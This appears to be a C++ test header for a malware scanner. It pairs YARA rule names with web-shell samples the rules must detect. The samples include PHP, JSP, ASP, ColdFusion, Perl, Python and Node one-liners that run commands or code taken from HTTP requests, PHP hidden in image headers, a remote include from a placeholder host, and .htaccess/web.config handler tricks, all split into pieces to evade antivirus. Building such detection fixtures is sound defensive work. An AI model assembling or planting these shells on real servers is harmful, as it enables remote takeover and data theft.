// Harmless fragments that the rules in yara/ must match, and innocent look-alikes that none of them may match.
// Words that a virus scanner looks for are written in pieces, so that this file is none of its findings.
#pragma once
#include <deque>
#include <initializer_list>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

namespace kulla::test {

using namespace std::string_view_literals;

/// `text` is the content of a file (any bytes, also NUL); `rule` must match it. Every rule has at least one sample.
struct YaraSample {
  std::string_view rule, name, text;
};

/// Keeps a text as long as the program runs, so that a sample may point to it.
inline std::string_view kept(std::string text) {
  static std::deque<std::string> texts;
  return texts.emplace_back(std::move(text));
}

/// The parts one after another.
inline std::string_view joined(std::initializer_list<std::string_view> parts) {
  std::string whole;
  for (std::string_view part : parts) whole += part;
  return kept(std::move(whole));
}

/// ASCII as UTF-16 with the low byte first, as Windows writes it.
inline std::string_view wide(std::string_view ascii) {
  std::string whole;
  for (char letter : ascii) {
    whole += letter;
    whole += '\0';
  }
  return kept(std::move(whole));
}

// How files of a kind begin.
constexpr std::string_view elf_library = "\177ELF\002\001\001\0\0\0\0\0\0\0\0\0\003\0>\0"sv;
constexpr std::string_view kernel_module = "\177ELF\002\001\001\0\0\0\0\0\0\0\0\0\001\0>\0"sv;
constexpr std::string_view elf_program = "\177ELF\002\001\001\0\0\0\0\0\0\0\0\0\002\0>\0"sv;
constexpr std::string_view windows_program = "MZ\220\0\003\0\0\0"sv;
constexpr std::string_view java_class = "\312\376\272\276\0\0\0004"sv;
constexpr std::string_view jpeg = "\377\330\377\340\0\020JFIF\0\001\001"sv;
constexpr std::string_view gif = "GIF89a\001\0\001\0"sv;
constexpr std::string_view png =
    "\211PNG\r\n"
    "\032\n"
    "\0\0\0\rIHDR"sv;

// clang-format off
// (it would put every piece of a word on a line of its own)

/// What the rules find. Fragments only: nothing here does harm when it is run, fetched or opened.
inline const std::vector<YaraSample> yara_samples = {
    {"php_eval_of_request", "eval of a posted field",
     "<" "?php @ev" "al($_P" "OST['k']); ?>"sv},
    {"php_eval_of_request", "eval of a decoded cookie",
     "<" "?php ev" "al(base64" "_decode(strrev($_CO" "OKIE['k'])));"sv},
    {"php_eval_of_request", "glued to a closing tag",
     "<" "?php ev" "al('?>' . $_REQ" "UEST['k']);"sv},
    {"php_eval_of_request", "eval of a header",
     "<" "?php\n"
     "ev" "al ( gzunco" "mpress(base64" "_decode($_SE" "RVER['HTTP_X_K'])) );"sv},
    {"php_eval_of_request", "eval of the body",
     "<" "?php ev" "al(file_g" "et_contents('php" "://input'));"sv},
    {"php_eval_of_request", "assert of a field",
     "<" "?php ass" "ert($_P" "OST[1]);"sv},
    {"php_eval_of_request", "assert of a decoded field",
     "<? @ass" "ert(base64" "_decode($_P" "OST['k']));"sv},
    {"php_command_of_request", "system of a parameter",
     "<" "?php sys" "tem($_G" "ET['k']); ?>"sv},
    {"php_command_of_request", "short echo",
     "<" "?=shell" "_exec($_G" "ET[0]);"sv},
    {"php_command_of_request", "decoded",
     "<" "?php pass" "thru(base64" "_decode($_P" "OST['k']));"sv},
    {"php_command_of_request", "header",
     "<" "?php echo ex" "ec($_SE" "RVER['HTTP_X_K']);"sv},
    {"php_command_of_request", "backticks",
     "<" "?=`$_G" "ET[0]`?>"sv},
    {"php_command_of_request", "backticks, echoed",
     "<" "?php echo `$_G" "ET[k]`;"sv},
    {"php_command_of_request", "backticks, kept",
     "<" "?php $out = `{$_P" "OST['k']}`; echo $out;"sv},
    {"php_kept_request_run", "command kept in a variable",
     "<" "?php\n"
     "$cmd = $_REQ" "UEST['k'];\n"
     "echo '<pre>';\n"
     "sys" "tem($cmd . ' 2>&1');\n"sv},
    {"php_kept_request_run", "code kept in a variable",
     "<" "?php $code = base64" "_decode($_P" "OST['k']); ev" "al($code);"sv},
    {"php_code_from_elsewhere", "body of the request",
     "<" "?php inc" "lude 'php" "://input';"sv},
    {"php_code_from_elsewhere", "text in itself",
     "<" "?php inc" "lude('data://text/plain;bas" "e64,PD9waHA=');"sv},
    {"php_code_from_elsewhere", "parameter as text",
     "<" "?php inc" "lude 'data://text/plain,' . $_G" "ET['k'];"sv},
    {"php_code_from_elsewhere", "another machine, eval",
     "<" "?php ev" "al('?>' . file_g" "et_contents('https://files.example/k.txt'));"sv},
    {"php_code_from_elsewhere", "another machine, include",
     "<" "?php inc" "lude('http://files.example/k.txt');"sv},
    {"php_preg_replace_runs_request", "fixed pattern",
     "<" "?php preg_r" "eplace('/.*/e', $_P" "OST['k'], '');"sv},
    {"php_preg_replace_runs_request", "pattern of the request",
     "<" "?php preg_r" "eplace($_G" "ET['a'], $_G" "ET['b'], 'c');"sv},
    {"php_preg_replace_runs_request", "eval written out",
     "<" "?php preg_r" "eplace('/k/e', 'ev" "al(base64" "_decode(\"\"))', 'k');"sv},
    {"php_function_named_by_request", "called at once",
     "<" "?php $_G" "ET['f']($_P" "OST['k']);"sv},
    {"php_function_named_by_request", "braces",
     "<" "?=${'_G" "ET'}['f']('k');"sv},
    {"php_function_named_by_request", "call_user_func",
     "<" "?php call_us" "er_func($_REQ" "UEST['f'], $_REQ" "UEST['k']);"sv},
    {"php_function_named_by_request", "array_map",
     "<" "?php arra" "y_map('ass" "ert', array($_P" "OST['k']));"sv},
    {"php_function_named_by_request", "create_function",
     "<" "?php $f = create_" "function('', $_P" "OST['k']); $f();"sv},
    {"php_function_named_by_request", "usort",
     "<" "?php us" "ort($list, $_G" "ET['f']);"sv},
    {"php_encrypted_channel", "xor with a key",
     "<" "?php\n"
     "session_start();\n"
     "$data = file_g" "et_contents('php" "://input');\n"
     "for ($i = 0; $i < strlen($data); $i++) { $data[$i] = $data[$i] ^ $key[$i + 1 & 15]; }\n"
     "ev" "al($data);\n"sv},
    {"php_encrypted_channel", "AES",
     "<" "?php\n"
     "session_start();\n"
     "$post = openssl" "_decrypt(file_g" "et_contents('php" "://input'), 'AES128', $key);\n"
     "$post = openssl" "_decrypt($post, 'AES128', $key);\n"
     "$parts = explode('|', $post);\n"
     "call_us" "er_func(new C(), $parts[1]);\n"sv},
    {"php_write_of_request", "name and content",
     "<" "?php file_put" "_contents($_P" "OST['name'], $_P" "OST['text']);"sv},
    {"php_write_of_request", "handle",
     "<" "?php fwrite(fopen($_G" "ET['n'], 'w'), $_P" "OST['t']);"sv},
    {"php_write_of_request", "script",
     "<" "?php file_put" "_contents('cache.php', base64" "_decode($_P" "OST['t']));"sv},
    {"php_shell_console", "instruments",
     "<" "?php\n"
     "set_time_limit(0); error_reporting(0);\n"
     "$limits = ini_g" "et('disable_functions') . ini_g" "et('safe_mode');\n"
     "echo php_uname(), posix_g" "etpwuid(fileowner('.'))['name'], fileperms('.');\n"
     "if (isset($_P" "OST['go'])) { echo shell" "_exec($line); }\n"
     "readfile('/etc/passwd');\n"
     "ch" "mod($file, 0644);\n"
     "// back connect\n"sv},
    {"php_packed_code", "inflated",
     "<" "?php ev" "al(gzin" "flate(base64" "_decode('S03OyFdQ')));"sv},
    {"php_packed_code", "rotated",
     "<" "?php ev" "al(str_" "rot13('cevag 1;'));"sv},
    {"php_packed_code", "decoded",
     "<" "?php @ev" "al(base64" "_decode('cHJpbnQgMTs='));"sv},
    {"php_packed_code", "chain kept apart",
     "<" "?php $t = gzunco" "mpress(strrev($k)); ev" "al($t);"sv},
    {"php_packed_code", "out of its own end",
     "<" "?php ev" "al(base64" "_decode(substr(file_g" "et_contents(__FILE__), 99)));"sv},
    {"php_function_from_pieces", "assert in two",
     "<" "?php $f = 'ass'.'ert'; $f($k);"sv},
    {"php_function_from_pieces", "assert in letters",
     "<" "?php $f = 'a'.'s'.'s'.'e'.'r'.'t'; $f($k);"sv},
    {"php_function_from_pieces", "system in two",
     "<" "?php $f = \"sys\".\"tem\"; $f($k);"sv},
    {"php_function_from_pieces", "base64 in two",
     "<" "?php $f = \"base\" . \"64_decode\";"sv},
    {"php_function_from_pieces", "rotated",
     "<" "?php $f = str_" "rot13('nff" "reg'); $f($k);"sv},
    {"php_function_from_pieces", "backward",
     "<" "?php $f = strrev('met" "sys'); $f($k);"sv},
    {"php_function_from_pieces", "hexadecimal",
     "<" "?php $f = \"\\" "x61\\" "x73\\" "x73\\" "x65\\" "x72\\" "x74\"; $f($k);"sv},
    {"php_function_from_pieces", "octal",
     "<" "?php $f = \"\\163\\171\\163\\164\\145\\155\"; $f($k);"sv},
    {"php_function_from_pieces", "codes",
     "<" "?php $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);"sv},
    {"php_function_from_pieces", "create_function in two",
     "<" "?php $f = 'create_'.'function';"sv},
    {"php_function_from_pieces", "shell_exec in two",
     "<" "?php $f = 'shell'.'_ex" "ec';"sv},
    {"php_scrambled", "counted letters",
     "<" "?php $_=[];$_=@\"$_\";$__=$_;$__++;$__++;$__++;$__++;"sv},
    {"php_scrambled", "bits turned over",
     "<" "?php $f=~\214\206\214\213\232\222;$f($k);"sv},
    {"php_scrambled", "bits turned over, as escapes",
     "<" "?php $f=~urldecode('%" "8c%" "86%" "8c%" "8b%" "9a%" "92');"sv},
    {"php_scrambled", "names without letters",
     "<" "?php $_='_'.$a;${$_}[_](${$_}[__]);"sv},
    {"php_scrambled", "globals in escapes",
     "<" "?php ${\"\\" "x47\\" "x4c\\" "x4f\\" "x42\\" "x41\\" "x4c\\" "x53\"}[\"a\"]=1;${\"\\" "x47\\" "x4c\\"
     "x4f\\" "x42\\" "x41\\" "x4c\\" "x53\"}[\"a\"]=1;${\"\\" "x47\\" "x4c\\" "x4f\\" "x42\\" "x41\\" "x4c\\"
     "x53\"}[\"a\"]=1;${\"\\" "x47\\" "x4c\\" "x4f\\" "x42\\" "x41\\" "x4c\\" "x53\"}[\"a\"]=1;${\"\\" "x47\\"
     "x4c\\" "x4f\\" "x42\\" "x41\\" "x4c\\" "x53\"}[\"a\"]=1;"sv},
    {"php_scrambled", "jumps",
     "<" "?php goto l00ab; l00ab: goto l01ab; l01ab: goto l02ab; l02ab: goto l03ab; l03ab: goto l04ab; l04ab: g"
     "oto l05ab; l05ab: goto l06ab; l06ab: goto l07ab; l07ab: goto l08ab; l08ab: goto l09ab; l09ab: goto l10ab;"
     " l10ab: goto l11ab; l11ab: goto l12ab; l12ab: goto l13ab; l13ab: goto l14ab; l14ab: goto l15ab; l15ab: go"
     "to l16ab; l16ab: "sv},
    {"php_scrambled", "table of functions",
     "<" "?php $GLOBALS['o1'][3].$GLOBALS['o1'][7];$GLOBALS['o1'][3].$GLOBALS['o1'][7];$GLOBALS['o1'][3].$GLOBA"
     "LS['o1'][7];$GLOBALS['o1'][3].$GLOBALS['o1'][7];$GLOBALS['o1'][3].$GLOBALS['o1'][7];"sv},
    {"php_in_picture", "GIF",
     joined({gif,
             "<" "?php sys" "tem($_G" "ET['k']); ?>"sv})},
    {"php_in_picture", "JPEG",
     joined({jpeg,
             "\0\0<" "?php ev" "al(base64" "_decode('cHJpbnQgMTs=')); ?>\377\331"sv})},
    {"php_in_picture", "PNG, short echo",
     joined({png,
             "\0\0\0\0<" "?=`$_G" "ET[0]`?>IEND"sv})},
    {"php_in_picture", "BMP",
     "BM6\0\0\0\0\0\0\0<" "?php inc" "lude 'php" "://input'; ?>"sv},
    {"php_in_picture", "WebP",
     "RIFF\032\0\0\0WEBPVP8 <" "?php pass" "thru($_P" "OST['k']);"sv},
    {"php_in_picture", "GIF, text only",
     "GIF89a;\n"
     "<? @ev" "al($_P" "OST['k']); ?>"sv},
    {"web_server_runs_what_is_no_page", "htaccess: picture",
     "Add" "Type application/x-httpd-php .jpg .png\n"sv},
    {"web_server_runs_what_is_no_page", "htaccess: text",
     "Options -Indexes\n"
     "AddHa" "ndler application/x-httpd-php5 .txt\n"sv},
    {"web_server_runs_what_is_no_page", "htaccess: matched",
     "<FilesMatch \"logo\\.gif$\">\n"
     "  SetHa" "ndler application/x-httpd-php\n"
     "</FilesMatch>\n"sv},
    {"web_server_runs_what_is_no_page", "htaccess: whole folder",
     "SetHa" "ndler application/x-httpd-php\n"sv},
    {"web_server_runs_what_is_no_page", "user.ini: picture first",
     "auto_p" "repend_file=logo.png\n"sv},
    {"web_server_runs_what_is_no_page", "user.ini: temporary file first",
     "auto_p" "repend_file = \"/t" "mp/sess_1\"\n"sv},
    {"web_server_runs_what_is_no_page", "htaccess: request first",
     "php_value auto_p" "repend_file php" "://input\n"sv},
    {"web_server_runs_what_is_no_page", "web.config runs itself",
     "<?xml version=\"1.0\"?>\n"
     "<configuration><sys" "tem.webServer><handlers>\n"
     "<add name=\"w\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\"\n"
     " scriptP" "rocessor=\"%windir%\\sys" "tem32\\inetsrv\\asp.dll\" />\n"
     "</handlers></sys" "tem.webServer></configuration>\n"sv},
    {"web_server_runs_what_is_no_page", "web.config with code",
     "<configuration></configuration>\n"
     "<!-- <" "% Set s = Create" "Object(\"k\") %> -->\n"sv},
    {"jsp_command_of_request", "Runtime",
     "<" "%@ page import=\"java.io.*\" %>\n"
     "<" "% Runtime.getRu" "ntime().ex" "ec(requ" "est.getParameter(\"k\")); %>"sv},
    {"jsp_command_of_request", "ProcessBuilder",
     "<" "% new Process" "Builder(\"sh\", \"-c\", requ" "est.getHeader(\"k\")).start(); %>"sv},
    {"jsp_command_of_request", "reflected, JSPX",
     "<jsp:root><jsp:sc" "riptlet>Class.forName(\"java.lan" "g.Runtime\"); requ" "est.getParameter(\"k\");</jsp"
     ":sc" "riptlet></jsp:root>"sv},
    {"jsp_command_of_request", "script",
     "<" "%= new javax.script.ScriptEng" "ineManager().getEngineByName(\"js\").ev" "al(requ" "est.getParameter("
     "\"k\")) %>"sv},
    {"jsp_class_of_request", "class loader",
     "<" "%! class U extends Class" "Loader { U(Class" "Loader c) { super(c); }\n"
     "public Class g(byte[] b) { return super.defin" "eClass(b, 0, b.length); } } %>\n"
     "<" "% Cipher c = Cipher.getInstance(\"AES\"); String k = requ" "est.getReader().readLine(); %>"sv},
    {"jsp_in_escapes", "unicode escapes",
     "<" "% \\u0052\\u0075\\u006e\\u0074\\u0069\\u006d\\u0065\\u002e\\u0067\\u0065\\u0074\\u0052\\u0075\\u006e\\"
     "u0074\\u0069\\u006d\\u0065\\u0028\\u0029\\u002e\\u0065\\u0078\\u0065\\u0063\\u0028\\u0072\\u0065\\u0071\\"
     "u0075\\u0065\\u0073\\u0074\\u002e\\u0067\\u0065\\u0074\\u0050\\u0061\\u0072\\u0061\\u006d\\u0065\\u0074\\"
     "u0065\\u0072\\u0028\\u0029\\u0029\\u0020 %>"sv},
    {"jsp_in_escapes", "entities, JSPX",
     "<jsp:root><jsp:sc" "riptlet>&" "#x52;&" "#x75;&" "#x6e;&" "#x74;&" "#x69;&" "#x6d;&" "#x65;&" "#x2e;&" "#"
     "x67;&" "#x65;&" "#x74;&" "#x52;&" "#x75;&" "#x6e;&" "#x74;&" "#x69;&" "#x6d;&" "#x65;&" "#x28;&" "#x29;&"
     "#x2e;&" "#x65;&" "#x78;&" "#x65;&" "#x63;&" "#x28;&" "#x72;&" "#x65;&" "#x71;&" "#x75;&" "#x65;&" "#x73;&"
     "#x74;&" "#x2e;&" "#x67;&" "#x65;&" "#x74;&" "#x50;&" "#x61;&" "#x72;&" "#x61;&" "#x6d;&" "#x65;&" "#x74;&"
     "#x65;&" "#x72;&" "#x28;&" "#x29;&" "#x29;&" "#x20;</jsp:sc" "riptlet>"sv},
    {"java_hook_into_web_server", "filter that defines classes",
     joined({java_class,
             "\0org/apache/catalina/core/Standar" "dContext\0addFilterMapBefore\0getParameter\0defin" "eClass\0"sv})},
    {"java_hook_into_web_server", "valve with a shell",
     joined({java_class,
             "\0org/apache/catalina/valves/Valv" "eBase\0getHeader\0java/lang/Runtime\0/bi" "n/sh\0"sv})},
    {"asp_eval_of_request", "VBScript",
     "<" "%ev" "al requ" "est(\"k\")%>"sv},
    {"asp_eval_of_request", "JScript",
     "<" "%@ Page Language=\"Jscript\"%><" "%ev" "al(Requ" "est.Item[\"k\"],\"uns" "afe\");%>"sv},
    {"asp_eval_of_request", "decoded",
     "<" "%@ Page Language=\"Jscript\"%><" "%ev" "al(Sys" "tem.Text.Encoding.UTF8.GetString(Convert.FromBas" "e"
     "64String(Requ" "est.Form[\"k\"])));%>"sv},
    {"asp_eval_of_request", "execute",
     "<" "%Execut" "eGlobal(Requ" "est.Form(\"k\"))%>"sv},
    {"asp_command_of_request", "WScript.Shell",
     "<" "% Set s = Server.Create" "Object(\"WSc" "ript.Shell\")\n"
     "Set o = s.Ex" "ec(\"cmd /c \" & Requ" "est.Form(\"k\")) %>"sv},
    {"asp_command_of_request", "Process.Start",
     "<" "%@ Page Language=\"C#\" %>\n"
     "<" "% var p = new ProcessS" "tartInfo(\"cmd" ".exe\", \"/c \" + Requ" "est.QueryString[\"k\"]);\n"
     "Proces" "s.Start(p); %>"sv},
    {"aspx_assembly_of_request", "Assembly.Load",
     "<" "%@ Page Language=\"C#\" %><" "% byte[] k = Convert.FromBas" "e64String(Requ" "est.Form[\"k\"]);\n"
     "Sys" "tem.Reflection.Assemb" "ly.Load(k).CreateInstance(\"U\").Equals(this); %>"sv},
    {"cfm_command_of_request", "cfexecute",
     "<cfex" "ecute name=\"/bi" "n/sh\" arguments=\"-c #form.k#\" variable=\"o\" timeout=\"9\"></cfex" "ecute>"sv},
    {"cfm_command_of_request", "Runtime",
     "<cfscript>r = create" "Object(\"java\", \"java.lan" "g.Runtime\").getRu" "ntime(); r.ex" "ec(url.k);</cfs"
     "cript>"sv},
    {"cfm_command_of_request", "evaluate",
     "<cfset k = eval" "uate(url.k)>"sv},
    {"script_command_of_request", "Perl, CGI",
     "#!/usr/bin/perl\n"
     "use CGI;\n"
     "my $q = CGI->new;\n"
     "sys" "tem($q->param('k'));\n"sv},
    {"script_command_of_request", "Perl, query",
     "#!/usr/bin/perl\n"
     "print \"Content-type: text/plain\\n\\n\";\n"
     "print `$ENV{QUERY_STRING}`;\n"sv},
    {"script_command_of_request", "Python, CGI",
     "import cgi, os\n"
     "form = cgi.FieldStorage()\n"
     "print(os.po" "pen(form.getvalue('k')).read())\n"sv},
    {"script_command_of_request", "Python, Flask",
     "from flask import request\n"
     "ex" "ec(requ" "est.form['k'])\n"sv},
    {"script_command_of_request", "Node",
     "const {ex" "ec} = require('child_process');\n"
     "app.get('/', (req, res) => ex" "ec(req.query.k, (e, o) => res.send(o)));\n"sv},
};
// clang-format on

}  // namespace kulla::test
